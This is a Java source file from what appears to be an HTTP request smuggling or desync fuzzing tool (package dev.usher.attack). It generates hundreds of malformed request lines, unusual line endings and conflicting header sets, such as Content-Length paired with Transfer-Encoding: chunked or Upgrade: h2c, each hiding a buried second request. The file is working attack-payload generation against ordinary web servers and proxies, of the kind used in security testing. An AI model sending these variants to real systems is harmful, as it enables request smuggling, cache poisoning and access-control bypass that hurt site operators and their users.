package dev.usher.attack;

import dev.usher.attack.Framing.Variant;
import java.util.ArrayList;
import java.util.List;

/** Request lines, line ends and fields that two parsers may interpret differently. */
final class RequestLines {
  private static final String ENDS = "\n|\r|\r\r\n|\n\r|\0|\u000b|\u000c|\u0085|\u2028|\r\n ";

  private static final String REQUESTS =
      "GET  TARGET HTTP/1.1|GET TARGET  HTTP/1.1|GET\tTARGET\tHTTP/1.1|GET TARGET HTTP/1.1 "
          + "|GET TARGET HTTP/1.2|GET TARGET HTTP/0.9|GET TARGET|GET TARGET HTTP/2.0"
          + "|GET TARGET http/1.1|G\0T TARGET HTTP/1.1|GET TARGET HTTP/1.1 HTTP/1.1"
          + "|GET TARGET x HTTP/1.1|GET http://s TARGET HTTP/1.1|get TARGET HTTP/1.1"
          + "|GET: TARGET HTTP/1.1|CONNECT s:80 HTTP/1.1|PRI * HTTP/2.0|GET TARGET HTTP/1.10"
          + "|GET TARGET HTTP/1,1|GET TARGET HTTP/01.1|GET TARGET HTTPS/1.1|GET TARGET ICY/1.1"
          + "|GET http://sTARGET HTTP/1.1|GET HTTPS://s:80TARGET HTTP/1.1"
          + "|POST http://tTARGET HTTP/1.1|GET http://x@sTARGET HTTP/1.1"
          + "|GET http://TARGET HTTP/1.1|GET http:TARGET HTTP/1.1|GET http://s\\TARGET HTTP/1.1"
          + "|GET http://s:TARGET HTTP/1.1|GET ftp://sTARGET HTTP/1.1";

  /** A tilde stands for the end of a line. */
  private static final String FIELDS =
      "Connection: Content-Length~Content-Length: 5~"
          + "|Connection: Transfer-Encoding~Transfer-Encoding: chunked~"
          + "|Expect: 100-continue~Content-Length: 5~"
          + "|Expect: 200-ok~Content-Length: 5~"
          + "|Upgrade: h2c~HTTP2-Settings: AAMAAABkAAQAAP__~"
          + "Connection: Upgrade, HTTP2-Settings~"
          + "|Upgrade: websocket~Connection: Upgrade~"
          + "|Upgrade: x~Connection: Upgrade~Content-Length: 5~"
          + "|Content-Length: 5~Content-Encoding: chunked~"
          + "|TE: chunked~Content-Length: 5~|Trailer: Content-Length~";

  private RequestLines() {}

  static List<Variant> variants() {
    List<Variant> all = new ArrayList<>();
    for (String end : Bodies.words(ENDS)) {
      all.add(Variant.post("X: y" + end + "Content-Length: 5\r\n", "BURIED"));
      all.add(Variant.post("X: y" + end + end + "BURIED\r\n", ""));
      String lengths = "Transfer-Encoding: chunked\r\nContent-Length: 5\r\n";
      all.add(Variant.post("X: y" + end + lengths, "0\r\n\r\nBURIED"));
      all.add(new Variant("GET TARGET" + end + " HTTP/1.1", "", "BURIED"));
      all.add(new Variant("GET TARGET HTTP/1.1" + end + "X: y", "", "BURIED"));
      all.add(new Variant(end + "GET TARGET HTTP/1.1", "", "BURIED"));
    }
    for (String request : Bodies.words(REQUESTS)) {
      all.add(new Variant(request, "", "BURIED"));
      all.add(new Variant(request, "Content-Length: 5\r\n", "BURIED"));
      all.add(new Variant(request, "Transfer-Encoding: chunked\r\n", "0\r\n\r\nBURIED"));
      all.add(new Variant(request, "Host: t\r\n", "BURIED"));
    }
    for (String fields : Bodies.words(FIELDS.replace("~", "\r\n"))) {
      all.add(Variant.post(fields, "BURIED"));
      all.add(new Variant("GET TARGET HTTP/1.1", fields, "BURIED"));
      all.add(new Variant("HEAD TARGET HTTP/1.1", fields, "BURIED"));
      all.add(new Variant("OPTIONS TARGET HTTP/1.1", fields, "0\r\n\r\nBURIED"));
    }
    return all;
  }
}
